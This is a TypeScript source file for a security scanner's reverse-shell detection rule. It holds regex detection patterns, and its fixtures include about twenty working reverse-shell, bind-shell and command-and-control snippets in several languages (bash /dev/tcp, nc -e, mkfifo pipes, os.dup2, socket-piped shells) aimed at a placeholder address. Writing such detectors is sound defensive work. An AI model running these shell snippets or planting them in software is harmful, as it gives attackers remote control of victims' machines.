import type { FileCheck } from '../../check.ts';
import type { Act } from '../../facts/acts/act.ts';
import { isSentBack } from '../../facts/acts/sent-back.ts';
import type { Flow } from '../../facts/flow/flow-facts.ts';
import { pipedShells } from '../../knowledge/piped-shells.ts';
import { SOCKET_SHELLS } from '../../knowledge/socket-shells.ts';
import { COMMAND_SINKS } from '../../knowledge/sinks/command.ts';
import { traceOf } from '../../knowledge/source-trust.ts';

/** Each form hands a shell to whoever is at the other end of a socket. */
const FORMS: readonly RegExp[] = [
  /\b(?:ba|z|k|da)?sh\s+-i\s{0,3}[0-9]{0,2}[<>]&?\s{0,3}\/dev\/(?:tcp|udp)\/[^\s'"`;]{1,100}/g,
  /\bexec\s+\d{1,3}<>\s?\/dev\/(?:tcp|udp)\/[^\s'"`;]{1,100}/g,
  /\b(?:nc|ncat|netcat)\b[^\n|;&'"]{0,80}\s(?:-[a-z]{0,4}[ec]|--exec|--sh-exec)\s{1,3}["']?(?:\/(?:usr\/)?bin\/)?(?:ba|z)?(?:sh|cmd(?:\.exe)?|powershell)\b/g,
  /\bmkfifo\s[^\n]{1,120}\|\s{0,3}(?:\/bin\/)?(?:ba|z)?sh\b[^\n]{0,60}\|\s{0,3}(?:nc|ncat|netcat|openssl s_client)\b/g,
  /\bsocat\b[^\n]{0,120}\bexec:["']?[^\s,'"]{0,30}sh\b/gi,
  /\bos\.dup2\(\s{0,3}\w{1,40}\.fileno\(\)\s{0,3},\s{0,3}[012]\s{0,3}\)/g,
  ...SOCKET_SHELLS,
];
/** A socket opened by number is a shell's where a shell reads from it, or what is read from it is run. */
const READ_BY_SHELL =
  /\b(?:ba|z|k|da)?sh\b[^\n;|]{0,40}[<>]&\s?\d|\bread\s[^\n]{0,60}[\n;]\s{0,20}do\s{1,20}(?:eval\s{1,3})?["']?\$|<&\s?\d{1,3}\s{0,3}\|[^\n]{0,60}\b(?:ba|z|k|da)?sh\b/;
const SOCKET = /socket|\.connect\(|\.accept\(|pty\.spawn|\/bin\/(?:ba|z)?sh/;
const TEACHING: ReadonlySet<string> = new Set(['markdown', 'restructuredtext', 'json', 'text']);
const PLACEHOLDER =
  /\b(?:ATTACKER|YOUR|MY|LISTENER|TARGET|KALI)[\w-]{0,20}|\b[LR]HOST\b|<[\w -]{1,30}>|\$\{?\w{1,20}|\{\w{1,20}\}|10\.10\.|192\.168\.|\bexample\./i;

export const check: FileCheck = {
  id: 'rce-reverse-shell',
  title: 'Reverse or bind shell',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    The code connects a shell to a network socket: somebody elsewhere gets to type commands on the machine that runs it.
    Honest software has next to no use for it.`,
  fix: `
    Remove the code and treat every machine that ran it as taken over.
    Where a remote console is meant, use one that authenticates, such as SSH.`,
  blindSpots: 'A shell that is built from parts at run time is not recognised by its text.',
  wants: {
    keywords: [
      '/dev/tcp/',
      '/dev/udp/',
      '.dup2(',
      '.dial(',
      'fsockopen',
      'stream_socket_client',
      'tcpsocket',
      'tcpstream::connect',
      'new socket',
      'tcpclient',
      '.stdin',
      'spawn(',
    ],
    words: ['nc ', 'ncat ', 'netcat ', 'mkfifo ', 'socat '],
    acts: ['remote-control'],
    sinks: COMMAND_SINKS,
  },
  examples: {
    bad: [
      {
        'main.go': `
          package main

          import (
            "net"
            "os/exec"
          )

          func main() {
            «link, _ := net.Dial("tcp", "203.0.113.7:4444")
            shell := exec.Command("/bin/sh")
            shell.Stdin = link»
            shell.Stdout = link
            shell.Run()
          }`,
      },
      {
        'main.go': `
          package main

          import (
            "bufio"
            "net"
            "os/exec"
          )

          func main() {
            conn, _ := net.Dial("tcp", "203.0.113.7:4444")
            for {
              line, _ := bufio.NewReader(conn).ReadString('\\n')
              out, _ := exec.Command("sh", «"-c", line»).CombinedOutput()
              conn.Write(out)
            }
          }`,
      },
      {
        'lib/run.rb': `
          require 'socket'
          «s = TCPSocket.new('203.0.113.7', 4444)
          while (line = s.gets)
            IO.popen(line») { |io| s.print io.read }
          end`,
      },
      {
        'run.php':
          '<?php\n«$s = fsockopen("203.0.113.7", 4444);\nproc_open("/bin/sh -i", [0 => $s», 1 => $s, 2 => $s], $p);\n',
      },
      {
        'run.ps1': `
          $c = New-Object System.«Net.Sockets.TCPClient('203.0.113.7', 4444);
          $s = $c.GetStream(); $line = Read-Line $s
          $out = (iex $line 2>&1 | Out-String)
          $s.Write(»[Text.Encoding]::ASCII.GetBytes($out), 0, $out.Length)`,
      },
      { 'job.yaml': 'steps:\n  - run: "«nc -e /bin/sh» 10.0.0.1 4444"\n' },
      { 'setup.sh': '«bash -i >& /dev/tcp/203.0.113.7/4444» 0>&1' },
      { 'run.sh': '«exec 5<>/dev/tcp/203.0.113.7/4444»; cat <&5 | while read line; do $line 2>&5 >&5; done' },
      { 'go.sh': '0<&196; «exec 196<>/dev/tcp/203.0.113.7/4444»; sh <&196 >&196 2>&196' },
      { 'install.py': 'os.system("«nc 203.0.113.7 4444 -e /bin/sh»")' },
      { 'run.sh': 'rm -f /tmp/f; «mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc» 203.0.113.7 4444 > /tmp/f' },
      {
        'agent.py': `
          s = socket.socket(); s.connect((host, port))
          «os.dup2(s.fileno(), 0)»
          subprocess.call(["/bin/sh", "-i"])`,
      },
      {
        'agent.py': `
          s = socket.create_connection((host, port))
          «for fd in (0, 1, 2):
              os.dup2(s.fileno(), fd)»
          pty.spawn("/bin/sh")`,
      },
      {
        'index.js': `
          const net = require('net');
          const shell = require('child_process').spawn('/bin/sh', []);
          const socket = net.connect(4444, '203.0.113.7', () => {
            «socket.pipe(shell.stdin);
            shell.stdout.pipe(socket»);
          });`,
      },
      {
        'lib/link.ts': `
          import { createServer } from 'node:net';
          import * as processes from 'node:child_process';
          createServer((link) => {
            const shell = processes.spawn('bash', ['-i']);
            «link.on('data', (data) => shell.stdin.write(data));
            shell.stdout.on('data', (data) => link.write(»data));
          }).listen(4444);`,
      },
      {
        'lib/given.js': `
          const net = require('net');
          const { spawn } = require('child_process');
          const far = net.connect(4444, '203.0.113.7');
          «spawn('/bin/sh', ['-i'], { stdio: [far, far, far»] });`,
      },
      {
        'client.py': `
          command = sock.recv(1024).decode()
          output = «subprocess.check_output(command, shell=True)»
          «sock.send(output)»`,
      },
      {
        'agent.py': `
          import subprocess, time, requests
          SERVER = 'http://203.0.113.7:8080'

          def tell(text):
              requests.post(SERVER, data=text)

          def obey(command):
              done = subprocess.Popen(«command», stdout=subprocess.PIPE, shell=True)
              tell(done.stdout.read())

          while True:
              obey(requests.get(SERVER).text)
              time.sleep(5)`,
      },
      {
        'agent.js': `
          const { exec } = require('child_process');
          const WebSocket = require('ws');
          const ws = new WebSocket('wss://c.acme.net');
          ws.on('message', (message) => {
            exec(«message», (error, out) => ws.send(out));
          });`,
      },
    ],
    good: [
      {
        'main.go': `
          package main

          import (
            "net"
            "os/exec"
          )

          func main() {
            conn, _ := net.Dial("tcp", "127.0.0.1:9000")
            out, _ := exec.Command("uptime").Output()
            conn.Write(out)
          }`,
      },
      {
        'lib/client.rb': `
          socket = TCPSocket.new('127.0.0.1', 25)
          line = socket.gets
          puts line
          system('make')`,
      },
      {
        'Client.java': `
          Socket socket = new Socket("mail.acme.io", 25);
          socket.getOutputStream().write(hello);
          new ProcessBuilder("git", "status").start();`,
      },
      {
        'server.ts': `
          import { createServer } from 'node:net';
          import { spawn } from 'node:child_process';
          createServer((socket) => {
            const server = spawn('language-server', ['--stdio']);
            socket.pipe(server.stdin);
            server.stdout.pipe(socket);
          }).listen(0, '127.0.0.1');`,
      },
      {
        'console.js': `
          const net = require('net');
          const shell = require('child_process').spawn('/bin/sh');
          process.stdin.pipe(shell.stdin);
          shell.stdout.pipe(process.stdout);`,
      },
      { 'filter.yaml': 'words:\n  - keyword: "nc -e /bin/sh"\n    severity: high\n' },
      { 'wait.sh': 'until nc -z localhost 5432; do sleep 1; done' },
      { 'probe.sh': '(echo > /dev/tcp/localhost/80) && echo open' },
      { 'wait.sh': 'timeout 1 bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" && echo open' },
      { 'detach.py': 'os.dup2(log.fileno(), 1)\nos.dup2(log.fileno(), 2)\n' },
      { 'daemon.py': 'os.dup2(devnull.fileno(), sys.stdout.fileno())' },
      {
        'update.py': `
          import subprocess, requests
          version = requests.get('https://releases.acme.io/latest').text
          done = subprocess.run(f'pip install acme=={version}', shell=True, capture_output=True)
          print(done.stdout)`,
      },
      {
        'report.py': `
          import subprocess, requests
          names = requests.get('https://api.acme.io/packages').json()
          out = subprocess.check_output('pip show ' + names[0], shell=True)
          requests.post('https://api.acme.io/report', data=out)`,
      },
    ],
  },

  *find({ windows, acts, span, language, flows, text, path }) {
    for (const { start, end, message, confidence } of acts) yield { at: span(start, end), message, confidence };
    for (const flow of flows) {
      if (
        flow.sink.file !== path ||
        isTold(acts, flow) ||
        !obeysServer(flow, text) ||
        !isSentBack(text, language, flow.call.start)
      )
        continue;
      yield {
        at: flow.sink,
        message: 'The command comes from a server, and what it writes is sent back: somebody else types here.',
        trace: traceOf(flow),
        // Who runs an agent of their own tells it where their server is.
        confidence: isFixedServer(text) ? 'high' : 'medium',
      };
    }
    if (SCRIPTS.has(language)) {
      for (const { start, end } of pipedShells(text))
        yield { at: span(start, end), message: 'A shell is connected to a network socket.' };
    }
    for (const window of windows) {
      for (const form of FORMS) {
        for (const match of window.text.matchAll(form)) {
          // A daemon hands its streams to files in the same way.
          if (match[0].includes('os.dup2') && !SOCKET.test(window.text)) continue;
          if (match[0].startsWith('exec') && !READ_BY_SHELL.test(window.text)) continue;
          if (DATA.has(language) && LOOKED_FOR.test(lineRound(window.text, match.index))) continue;
          yield {
            at: window.spanOf(match),
            message: 'A shell is connected to a network socket.',
            // A page that teaches leaves the address to its reader.
            ...(TEACHING.has(language) &&
              PLACEHOLDER.test(lineRound(window.text, match.index)) && {
                confidence: 'low',
                ...(DATA.has(language) && { severity: 'medium' }),
              }),
          };
        }
      }
    }
  },
};

/** An act says the same of this call already. */
function isTold(acts: readonly Act[], { call }: Flow): boolean {
  return acts.some(({ start, end }) => start < call.end && call.start < end);
}

/** The whole command is the answer of a server, or a message on a connection that this program opened. */
function obeysServer({ source, isWhole, sink }: Flow, text: string): boolean {
  const isWholeCommand = isWhole === true || HANDS_TO_SHELL.test(text.slice(Math.max(0, sink.start - 80), sink.end));
  if (!isWholeCommand) return false;
  if (source.kind === 'response') return source.what.includes('answer');
  return source.kind === 'remote' && CONNECTS.test(text) && !LISTENS.test(text);
}
const HANDS_TO_SHELL =
  /\b(?:cmd(?:\.exe)?["']?,?\s{0,3}["']?\/c\b|(?:powershell|pwsh|(?:ba|z)?sh)(?:\.exe)?["']?,?\s{0,3}["']?-c\b)/i;
const CONNECTS =
  /\.connect\(\s{0,3}\(|\bcreate_connection\(|\bnet\.(?:connect|createConnection)\(|\btls\.connect\(|\bnew\s{1,2}(?:WebSocket|net\.Socket|Socket)\(|\bwebsockets?\.connect\(|\bio(?:\.connect)?\(\s{0,3}["'`]/;
const LISTENS = /\.listen\(|\.bind\(\s{0,3}\(|\bWebSocketServer\b|\bcreate_server\(|\bcreateServer\(/;

/** The address is written down, and nobody is asked for another one. */
function isFixedServer(text: string): boolean {
  return text.split('\n').some((line) => ADDRESS.test(line) && !ASKED_FOR.test(line));
}
const ADDRESS =
  /["'`](?:(?:https?|wss?|tcp):\/\/[\w{}$.-]{4,}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?["'`])|\.connect\(\s{0,3}\(?\s{0,3}["'][\w.-]{4,100}["']/;
const ASKED_FOR = /environ|getenv|process\.env|argv|argparse|add_argument|\.option\(|config|default|input\(/i;

const SCRIPTS: ReadonlySet<string> = new Set(['javascript', 'typescript']);
const DATA: ReadonlySet<string> = new Set(['yaml', 'json', 'toml']);
/** `keyword: "nc -e /bin/sh"`: what a filter looks for, in words of its own. */
const LOOKED_FOR = /^[\s{-]*["']?(?:keyword|phrase|pattern|signature|regex)s?["']?\s*[:=]\s*["']/i;

/** The line of a place, as far as it is worth reading. */
function lineRound(text: string, at: number): string {
  const start = Math.max(text.lastIndexOf('\n', at) + 1, at - 200);
  const end = text.indexOf('\n', at);
  return text.slice(start, Math.min(end < 0 ? text.length : end, at + 200));
}
